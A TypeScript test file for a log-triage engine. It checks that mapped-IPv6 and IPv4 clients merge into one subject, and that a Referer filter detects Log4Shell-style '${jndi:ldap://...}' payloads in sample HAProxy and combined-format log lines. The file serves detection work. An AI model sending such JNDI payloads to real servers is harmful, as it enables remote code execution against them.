/**
 * Issue 16: a client is one subject whichever notation its lines use
 * (`::ffff:a.b.c.d` and `a.b.c.d`), and the Referer can be matched. Real
 * lines go through the real parser, then the engine.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { createTriage } from '../../src/pipeline/triage/engine.js';
import { parseLine } from '../../src/pipeline/parse/index.js';
import { rule } from './helpers.js';

const httplog = (client: string, sec: number, extra = '') =>
  `Nov 25 14:00:${String(sec).padStart(2, '0')} lb haproxy[1]: ${client} [25/Nov/2026:14:00:${String(sec).padStart(2, '0')}.100] web app/s1 0/0/1/2/3 404 120 - - ---- 1/1/0/0/0 0/0 {shop.test|curl/8} "GET /p${sec} HTTP/1.1"${extra}`;
const clf = (client: string, sec: number) => `${client} - - [25/Nov/2026:14:00:${String(sec).padStart(2, '0')} +0000] "GET /q${sec} HTTP/1.1" 404 153 "-" "curl/8"`;

test('::ffff:a.b.c.d and a.b.c.d in one window: one subject, the block target in IPv4 form', () => {
  const t = createTriage([rule({ condition: { type: 'count', threshold: 6, window: '1m' }, actions: [{ type: 'block_ip', ttl: '1h' }] })]);
  const lines = [
    httplog('::ffff:198.51.100.40:40001', 1),
    httplog('198.51.100.40:40002', 2),
    clf('::ffff:198.51.100.40', 3),
    clf('198.51.100.40', 4),
    httplog('::FFFF:198.51.100.40:40005', 5),
    // A proxy in front: the real IP in mapped form is the same client too.
    httplog('10.0.0.2:40006', 6, ' rip=::ffff:198.51.100.40 rid=x'),
  ];
  const findings = lines.map((l) => {
    const p = parseLine(l, 'haproxy');
    assert.equal(p.ok, true, l);
    return t.process(p, 'haproxy');
  });
  // Nothing before the sixth line: with two subjects each would have only three.
  assert.deepEqual(findings.slice(0, 5).map((f) => f.length), [0, 0, 0, 0, 0]);
  const [f] = findings[5]!;
  assert.deepEqual(f?.subject, { type: 'ip', value: '198.51.100.40' });
  assert.deepEqual(f?.actions, [{ type: 'block_ip', target: '198.51.100.40', ttl_s: 3600 }]);
});

test('a referer filter matches the parsed Referer, in the captures and in the combined format, and nothing without one', () => {
  const t = createTriage([rule({ filter: { kind: 'http', referer: { pattern: '\\$\\{jndi:', decode: true } }, condition: { type: 'count', threshold: 1, window: '1m' } })]);
  const own = 'Nov 25 14:00:00 lb haproxy[1]: 203.0.113.9:1 [25/Nov/2026:14:00:00.100] web app/s1 0/0/1/2/3 200 120 - - ---- 1/1/0/0/0 0/0 {shop.test|curl/8|https://x.test/?a=%24%7Bjndi:ldap://h/a%7D} "GET / HTTP/1.1"';
  const combined = '203.0.113.10 - - [25/Nov/2026:14:00:01 +0000] "GET / HTTP/1.1" 200 612 "${jndi:ldap://h/a}" "Mozilla/5.0"';
  const inUa = 'Nov 25 14:00:02 lb haproxy[1]: 203.0.113.11:1 [25/Nov/2026:14:00:02.100] web app/s1 0/0/1/2/3 200 120 - - ---- 1/1/0/0/0 0/0 {shop.test|${jndi:ldap://h/a}} "GET / HTTP/1.1"';
  assert.equal(t.process(parseLine(own, 'haproxy'), 'haproxy')[0]?.subject.value, '203.0.113.9');
  assert.equal(t.process(parseLine(combined, 'haproxy'), 'haproxy')[0]?.subject.value, '203.0.113.10');
  assert.deepEqual(t.process(parseLine(inUa, 'haproxy'), 'haproxy'), []);
});
